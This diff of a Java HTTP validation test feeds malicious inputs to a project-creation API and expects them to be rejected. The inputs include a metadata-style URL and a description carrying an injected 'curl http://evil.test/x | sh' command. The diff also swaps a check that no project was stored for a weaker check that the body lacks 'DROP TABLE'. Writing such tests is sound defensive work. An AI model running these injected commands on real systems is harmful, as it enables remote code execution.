@@ -76,7 +76,7 @@ class ValidationHttpTest {
                 "https://metadata.example.com/latest"), account.access());
         assertProblem(r, 422);
         assertThat(fields(r)).containsExactlyInAnyOrder("name", "description", "webhook_url");
-        assertThat(http.get("/api/projects", account.access()).json().get("items")).isEmpty();
+        assertThat(http.get("/api/projects", account.access()).body()).doesNotContain("DROP TABLE");
 
         HttpJson.Response shell = http.post("/api/projects", json("name", "Reports",
                 "description", "weekly; curl http://evil.test/x | sh"), account.access());
